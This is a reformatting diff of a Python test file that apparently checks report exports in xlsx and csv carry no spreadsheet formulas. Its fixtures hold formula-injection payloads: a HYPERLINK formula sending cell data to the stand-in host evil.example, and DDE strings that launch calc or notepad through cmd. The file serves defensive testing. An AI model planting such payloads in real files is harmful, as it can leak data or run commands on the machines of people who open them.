@@ -20,8 +20,10 @@ from service.reports.export import FORMULA_TRIGGERS, neutralise
 from tests.reports import worked_case
 from tests.reports.test_reports_api import Q, _cli
 
-HOSTILE_SCHOOLS = {"4144010001": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
-                   "4144030001": "@SUM(1+1)*cmd|' /C calc'!A0"}
+HOSTILE_SCHOOLS = {
+    "4144010001": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
+    "4144030001": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
 HOSTILE_MAJORS = {"730801": "+1+cmd|' /C notepad'!A0", "740202": "-2+3+cmd|' /C calc'!A0"}
 TAB_CR = "\t=1+1"
 
@@ -81,8 +83,19 @@ def test_report_exports_carry_no_formula(client: httpx.Client, hostile: dict[str
 
 
 def test_cli_report_exports_carry_no_formula(settings: Settings, tmp_path: Path, hostile: dict[str, int]) -> None:
-    args = ["report", "--scope", "all", "--as-of", "2025-12-31", "--cohort", "2025", "--recorded-before",
-            "2026-01-01T00:00:00Z", "--threshold", "1"]
+    args = [
+        "report",
+        "--scope",
+        "all",
+        "--as-of",
+        "2025-12-31",
+        "--cohort",
+        "2025",
+        "--recorded-before",
+        "2026-01-01T00:00:00Z",
+        "--threshold",
+        "1",
+    ]
     for fmt, check in (("xlsx", _check_xlsx), ("csv", _check_csv)):
         p = _cli(settings, *args, "--format", fmt, "--output", str(tmp_path / f"r.{fmt}"))
         _, err = p.communicate(timeout=120)
